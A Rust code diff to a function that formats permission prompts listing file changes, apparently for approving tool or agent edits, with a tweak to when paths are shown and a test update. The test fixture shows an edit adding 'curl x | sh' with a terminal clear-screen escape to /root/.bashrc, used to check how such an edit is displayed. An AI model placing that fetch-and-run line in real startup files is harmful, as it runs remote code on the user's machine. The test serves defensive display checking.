@@ -13,8 +13,7 @@ pub fn permission_text_with_differences(name: &str, question: &PermissionQuestio
     let mut shown = tool_lines(question);
     for difference in &question.differences {
         let path = indented(&difference.path);
-        // One difference belongs to the one path above it.
-        if question.differences.len() > 1 || !shown.contains(&path) {
+        if shown.last() != Some(&path) {
             shown.push(path);
         }
         let lines = difference.changed_lines();
@@ -143,7 +142,7 @@ mod tests {
             )],
             ..PermissionQuestion::default()
         };
-        let shown = |question| permission_text_with_differences("m", question);
+        let shown = |question: &PermissionQuestion| permission_text_with_differences("m", question);
         let expected = "m asks: Edit README\n  /root/.bashrc\n  @@ -1 +1,2 @@\n   a\n  +curl x | sh\\u{1b}[2J\nIt runs without a sandbox.";
         assert_eq!(shown(&question), expected);
         question.detail.push("/root/.bashrc".to_owned());
